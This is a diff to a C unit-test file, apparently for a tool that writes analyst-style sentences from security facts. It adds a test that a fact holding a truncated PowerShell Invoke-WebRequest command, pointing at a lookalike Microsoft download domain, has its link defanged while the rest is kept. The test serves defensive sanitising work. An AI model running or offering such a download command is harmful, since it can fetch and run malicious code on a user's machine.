@@ -201,6 +201,23 @@ static void hostile_values_stay_values(void **state)
 	assert_non_null(strstr(s, "{host}[x]〈a|b〉<U+202E><U+001B>[31m"));
 }
 
+/* Also where it was cut off in the middle of a name. */
+static void a_link_in_a_command_is_broken_and_the_rest_is_left(void **state)
+{
+	const struct fact command[] = { { .name = "value", .kind = FACT_CODE,
+		.text = "powershell.exe -C \"Invoke-WebRequest -Uri http://microsoftsoftwaredownload...." } };
+	const struct fact file[] = { { .name = "value", .kind = FACT_CODE, .text = "c103w-a.zip" } };
+
+	(void)state;
+	for (int lang = 0; lang < LANGUAGES; lang++) {
+		const char *s = word_with(phrases, (enum language)lang, "customer.value", command, 1, NULL, arena);
+
+		assert_null(strstr(s, "http://"));
+		assert_non_null(strstr(s, "powershell.exe -C"));
+		assert_string_equal(word_with(phrases, (enum language)lang, "customer.value", file, 1, NULL, arena), "c103w-a.zip");
+	}
+}
+
 static void spans_and_counts(void **state)
 {
 	(void)state;
@@ -238,6 +255,7 @@ int main(void)
 		cmocka_unit_test(a_beat_without_facts_is_still_a_sentence),
 		cmocka_unit_test(a_sentence_reads_as_an_analyst_writes),
 		cmocka_unit_test(hostile_values_stay_values),
+		cmocka_unit_test(a_link_in_a_command_is_broken_and_the_rest_is_left),
 		cmocka_unit_test(spans_and_counts),
 		cmocka_unit_test(a_rule_is_known_by_its_words_then_its_technique),
 	};
